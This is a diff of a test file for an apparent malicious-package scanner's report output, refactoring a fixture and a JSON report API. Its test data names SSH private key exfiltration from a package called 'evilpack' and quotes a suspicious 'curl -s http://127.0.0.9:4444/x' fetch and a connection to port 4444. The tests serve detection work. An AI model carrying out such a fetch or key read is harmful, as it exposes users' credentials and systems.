@@ -1,21 +1,11 @@
 import { describe, expect, test } from "bun:test";
-import type { BehaviouralFinding } from "../../src/core/finding.ts";
-import { scanReportJson } from "../../src/report/json.ts";
+import { reportJson } from "../../src/report/json.ts";
+import { buildReportModel } from "../../src/report/model.ts";
+import { sshFinding } from "./finding-fixture.ts";
 import { formatScanReport, SAFE_MESSAGE } from "../../src/report/text.ts";
 
 describe("the report", () => {
-  const finding: BehaviouralFinding = {
-    source: "behavioural",
-    ruleId: "ssh",
-    severity: "block",
-    description: "SSH private key exfiltration.",
-    explanation: "The package might be trying to steal your Secure Shell private keys.",
-    package: "evilpack",
-    phase: "import",
-    subject: { kind: "access", path: "/home/sebastian/.ssh" },
-    syscall: "openat",
-    argv: ["python", "-c", "import evilpack"],
-  };
+  const finding = sshFinding({ subject: { kind: "access", path: "/home/sebastian/.ssh" } });
 
   test("uses the seed's wording for a blocking finding", () => {
     expect(formatScanReport([finding])).toStartWith(
@@ -44,6 +34,6 @@ describe("the report", () => {
     expect(formatScanReport([connection])).toStartWith("Found suspicious connection to 127.0.0.9:4444 in package evilpack.\n");
     expect(formatScanReport([execution])).toStartWith("Found suspicious execution of curl -s http://127.0.0.9:4444/x in package evilpack.\n");
     expect(formatScanReport([])).toBe(SAFE_MESSAGE);
-    expect(scanReportJson([connection])).toMatchObject({ verdict: "malicious", findings: [{ ruleId: "ssh", message: "Found suspicious connection to 127.0.0.9:4444 in package evilpack." }] });
+    expect(reportJson(buildReportModel({ command: "scan", version: "0.0.0", exitCode: 5, cwd: "/", findings: [connection] }))).toMatchObject({ verdict: "malicious", findings: [{ ruleId: "ssh", message: "Found suspicious connection to 127.0.0.9:4444 in package evilpack." }] });
   });
 });
